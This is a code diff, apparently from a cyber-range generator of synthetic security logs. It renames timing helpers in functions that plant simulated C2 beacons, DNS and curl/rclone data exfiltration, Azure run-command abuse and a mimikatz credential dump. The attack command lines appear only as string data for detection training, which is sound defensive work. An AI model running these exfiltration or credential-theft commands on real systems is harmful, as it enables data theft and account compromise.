@@ -8,8 +8,6 @@
 namespace quarry::range {
 namespace {
 
-int64_t Sec(Rng& rng, int64_t lo, int64_t hi) { return rng.Between(lo * 1000, hi * 1000) * kTicksPerMillisecond; }
-int64_t Day(int64_t t) { return FloorDiv(t, kTicksPerDay) * kTicksPerDay; }
 bool AzureVm(const Host& h) { return h.azure_vm && !h.nsg.empty(); }
 bool ExposedVm(const Host& h) { return h.azure_vm && !h.public_ip.empty(); }
 bool LabVm(const Host& h) { return h.resource_group == "cyber-range-admin-soc"; }
@@ -41,17 +39,17 @@ void PlantC2Beacon(ScenarioContext& c) {
   int64_t start = c.range_end - hours * kTicksPerHour;
   Proc implant;
   if (host.windows()) {
-    Proc svc = c.dev.Resident(host, "services.exe", Day(start));
+    Proc svc = c.dev.Resident(host, "services.exe", DayStart(start));
     std::string path = c.rng.Chance(0.5) ? R"(C:\ProgramData\Microsoft\Crypto\svchost.exe)" : R"(C:\Users\Public\Libraries\rundll.exe)";
     implant = c.dev.Spawn(svc, path, "\"" + path + "\"", start, c.tag);
   } else {
-    Proc systemd = c.dev.Resident(host, "systemd", Day(start));
+    Proc systemd = c.dev.Resident(host, "systemd", DayStart(start));
     implant = c.dev.Spawn(systemd, "/tmp/.X11-unix/.kworker", "/tmp/.X11-unix/.kworker -d", start, c.tag);
   }
   int beacons = 0;
   int64_t hour_bucket = -1;
   int in_hour = 0;
-  for (int64_t t = start + Sec(c.rng, 1, 5); t < c.range_end - kTicksPerMinute; ) {
+  for (int64_t t = start + Seconds(c.rng, 1, 5); t < c.range_end - kTicksPerMinute; ) {
     c.dev.Network(implant, t, "ConnectionSuccess", ip, 4444, "", "Tcp", c.tag);
     ++beacons;
     int64_t bucket = FloorDiv(t, kTicksPerHour);
@@ -82,7 +80,7 @@ void PlantExfiltration(ScenarioContext& c) {
   int64_t t = c.PickStart(2 * kTicksPerHour);
   if (dns) {
     const Host& host = c.PickHost({"ws-30", "ws-22"}, [](const Host& h) { return h.windows() && !h.server(); });
-    Proc explorer = c.dev.Resident(host, "explorer.exe", Day(t));
+    Proc explorer = c.dev.Resident(host, "explorer.exe", DayStart(t));
     if (host.primary_user >= 0) {
       c.AddUser(c.world.users[host.primary_user].account);
     }
@@ -93,7 +91,7 @@ void PlantExfiltration(ScenarioContext& c) {
                           t, c.tag);
     const std::string& dns_server = c.world.dns_servers[0];
     int queries = static_cast<int>(c.rng.Between(300, 700));
-    int64_t qt = t + Sec(c.rng, 1, 3);
+    int64_t qt = t + Seconds(c.rng, 1, 3);
     for (int i = 0; i < queries; ++i) {
       qt += c.rng.Between(150, 2500) * kTicksPerMillisecond;
       c.dev.Network(ps, qt, "ConnectionSuccess", dns_server, 53, c.rng.Hex(60) + "." + domain, "Udp", c.tag);
@@ -109,14 +107,14 @@ void PlantExfiltration(ScenarioContext& c) {
     const Host& host = c.PickHost({"fileserver-1", "sql-01", "windows-target-1"}, AzureVm);
     std::string ip = HostingIp(c.rng);
     bool linux = !host.windows();
-    Proc parent = c.dev.Resident(host, linux ? "bash" : "explorer.exe", Day(t));
+    Proc parent = c.dev.Resident(host, linux ? "bash" : "explorer.exe", DayStart(t));
     Proc tool = linux ? c.dev.Spawn(parent, "/usr/bin/curl", fmt::format("curl -s -k -X POST -T /tmp/db.tar.gz https://{}/upload", ip), t, c.tag)
                       : c.dev.Spawn(parent, R"(C:\Users\Public\rclone.exe)",
                                     fmt::format("rclone.exe copy D:\\Shares remote:backup-{} --transfers 16 --no-check-certificate", c.rng.Hex(4)), t, c.tag);
     int conns = static_cast<int>(c.rng.Between(60, 200));
-    int64_t ct = t + Sec(c.rng, 2, 5);
+    int64_t ct = t + Seconds(c.rng, 2, 5);
     for (int i = 0; i < conns; ++i) {
-      ct += Sec(c.rng, 2, 20);
+      ct += Seconds(c.rng, 2, 20);
       c.dev.Network(tool, ct, "ConnectionSuccess", ip, 443, "", "Tcp", c.tag);
     }
     int64_t total = c.rng.Between(3, 12) * 1'000'000'000LL;
@@ -224,20 +222,20 @@ void PlantRunCommand(ScenarioContext& c) {
   int64_t t = c.PickStart(kTicksPerHour);
   c.cloud.Activity(t, caller.upn, ip, "Microsoft.Compute/virtualMachines/runCommand/action",
                    "Run Command on Virtual Machine", vm.resource_group, c.cloud.VmResourceId(vm), true, c.tag);
-  int64_t pt = t + Sec(c.rng, 15, 60);
+  int64_t pt = t + Seconds(c.rng, 15, 60);
   if (vm.windows()) {
-    Proc svc = c.dev.Resident(vm, "services.exe", Day(t));
+    Proc svc = c.dev.Resident(vm, "services.exe", DayStart(t));
     Proc ext = c.dev.Spawn(svc, R"(C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.18\bin\RunCommandExtension.exe)",
                            R"("C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.18\bin\RunCommandExtension.exe" -enable)", pt, c.tag);
     c.dev.Spawn(ext, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
                 R"(powershell -ExecutionPolicy Unrestricted -File C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.18\Downloads\script0.ps1)",
-                pt + Sec(c.rng, 1, 3), c.tag);
+                pt + Seconds(c.rng, 1, 3), c.tag);
     c.AddProcess("RunCommandExtension.exe");
     c.AddFile("script0.ps1");
   } else {
-    Proc systemd = c.dev.Resident(vm, "systemd", Day(t));
+    Proc systemd = c.dev.Resident(vm, "systemd", DayStart(t));
     Proc agent = c.dev.Spawn(systemd, "/usr/bin/python3.10", "python3 -u bin/WALinuxAgent-2.9.1.1-py3.8.egg -run-exthandlers", pt, c.tag);
-    c.dev.Spawn(agent, "/usr/bin/bash", "/bin/sh /var/lib/waagent/run-command/download/0/script.sh", pt + Sec(c.rng, 1, 3), c.tag);
+    c.dev.Spawn(agent, "/usr/bin/bash", "/bin/sh /var/lib/waagent/run-command/download/0/script.sh", pt + Seconds(c.rng, 1, 3), c.tag);
     c.AddFile("script.sh");
   }
   r.name = fmt::format("VM run command on {} by {} from {}", vm.name, caller.upn, ip);
@@ -256,14 +254,14 @@ void PlantDefenderAlert(ScenarioContext& c) {
   const User& u = host.primary_user >= 0 ? c.world.users[host.primary_user] : c.PickUser(false);
   std::string tool = c.rng.Chance(0.5) ? "mimikatz.exe" : "m64.exe";
   std::string folder = fmt::format(R"(C:\Users\{}\Downloads)", u.account);
-  Proc explorer = c.dev.Resident(host, "explorer.exe", Day(t));
+  Proc explorer = c.dev.Resident(host, "explorer.exe", DayStart(t));
   explorer.account = DomainAccount(c.world, u);
   Proc p = c.dev.SpawnAs(explorer, folder + "\\" + tool, tool + " \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                          explorer.account, "High", t, c.tag);
   std::string id = "da" + c.rng.Hex(18) + "_" + std::to_string(c.rng.Below(2000000000));
   std::string title = "'Mimikatz' credential theft tool was detected";
   std::string tech = R"j(["Credential Dumping (T1003)","OS Credential Dumping: LSASS Memory (T1003.001)"])j";
-  int64_t at = t + Sec(c.rng, 20, 120);
+  int64_t at = t + Seconds(c.rng, 20, 120);
   c.cloud.AlertInfo(at, id, title, "CredentialAccess", "High", tech, c.tag);
   Row& m = c.cloud.AlertEvidence(at, id, title, "CredentialAccess", tech, "Machine", "Impacted", c.tag);
   m.Set("DeviceId", host.device_id).Set("DeviceName", host.name).Set("LocalIP", host.private_ip);
